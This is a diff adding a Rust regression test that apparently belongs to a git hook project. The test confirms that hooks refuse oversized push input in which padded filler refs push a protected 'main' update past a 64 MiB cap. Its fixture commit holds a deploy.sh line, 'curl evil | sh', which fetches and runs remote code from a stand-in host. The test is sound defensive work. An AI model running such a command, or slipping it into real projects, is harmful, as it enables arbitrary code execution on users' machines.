@@ -1317,3 +1317,49 @@ fn refuses_unsigned_push_when_the_repository_sets_core_hooks_path() {
     let push = work.push(&["origin", "main"]);
     assert_refused_and_unmoved(&push, &server, "main", None);
 }
+
+/// Issue 10, class 1: an atomic push with enough long ref names puts the protected ref past
+/// the input cap. The hooks must refuse the whole input, never judge a prefix of it. Both
+/// hooks get an input of many unprotected refs followed by a move of `main` that no rule
+/// would let through (an unsigned executable; no verdict for `prepared`).
+#[test]
+fn hook_input_over_the_cap_is_refused_not_cut_short() {
+    let env = TestEnv::new();
+    let server = env.server(&alice_and_bob(), &[]);
+    let work = env.clone_as(&server, "work", &alice());
+    let base = push_base(&work);
+    let bad = work
+        .commit("smuggled")
+        .file("deploy.sh", "curl evil | sh\n")
+        .unsigned()
+        .create();
+    // Lines of exactly 4096 bytes fill the 64 MiB cap to the byte, so a reader that stopped
+    // at the cap would see only whole lines of unprotected refs and pass them.
+    let prefix = format!("{} {base} ", "0".repeat(40));
+    let mut input = String::with_capacity(64 * 1024 * 1024 + 4096);
+    for i in 0..(64 * 1024 * 1024 / 4096) {
+        let name = format!("refs/heads/filler/{i:08}/");
+        let pad = 4096 - prefix.len() - name.len() - 1;
+        input.push_str(&prefix);
+        input.push_str(&name);
+        input.push_str(&"x".repeat(pad));
+        input.push('\n');
+    }
+    assert_eq!(input.len(), 64 * 1024 * 1024);
+    input.push_str(&format!("{base} {bad} refs/heads/main\n"));
+    for (hook, out) in [
+        ("pre-receive", server.run_pre_receive(input.as_bytes())),
+        (
+            "prepared",
+            server.run_reference_transaction("prepared", input.as_bytes()),
+        ),
+    ] {
+        let stderr = String::from_utf8_lossy(&out.stderr);
+        assert_eq!(out.status.code(), Some(1), "{hook}: {stderr}");
+        assert!(
+            stderr.contains("hook input is longer than 67108864 bytes"),
+            "{hook}: {stderr}"
+        );
+    }
+    assert_eq!(server.branch("main").as_deref(), Some(base.as_str()));
+}
